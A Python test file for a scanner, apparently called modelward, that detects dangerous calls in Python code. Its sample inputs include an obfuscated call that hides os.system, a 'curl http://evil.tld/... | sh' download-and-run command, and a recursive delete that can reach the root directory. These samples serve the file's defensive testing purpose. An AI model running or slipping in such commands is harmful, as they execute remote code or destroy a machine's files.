from __future__ import annotations

from modelward.formats.python_expressions import Scope
from modelward.formats.python_source import judge_source
from modelward.formats.python_values import Value


def test_names_are_looked_up_outwards() -> None:
    outer = Scope({"x": Value("os")})
    assert Scope({}, outer).get("x").name == "os"
    assert Scope({}).get("exec").name == "builtins.exec"
    assert Scope({}).get("__builtins__").name == "builtins"


def test_comprehensions_are_unrolled() -> None:
    text = "import os\ngetattr(os, ''.join([chr(c) for c in (115, 121, 115, 116, 101, 109)]))('make')"
    assert [use.what for use in judge_source(text)] == ["hides that it calls os.system"]


def test_format_strings_are_known_in_part() -> None:
    text = "import os\nname = input()\nos.system(f'curl http://evil.tld/{name} | sh')"
    assert [use.harm for use in judge_source(text)] == ["downloads a program and runs it"]


def test_one_of_several_paths_that_cannot_be_told_is_not_the_machine() -> None:
    text = "import shutil\ndef rm(path):\n    shutil.rmtree(path.rstrip('/') or '/')\n"
    assert list(judge_source(text)) == []
    assert [use.harm for use in judge_source(text + "rm('/')")] == ["deletes the files of the machine"]
    assert [use.harm for use in judge_source(text.replace("path.rstrip('/') or ", ""))]
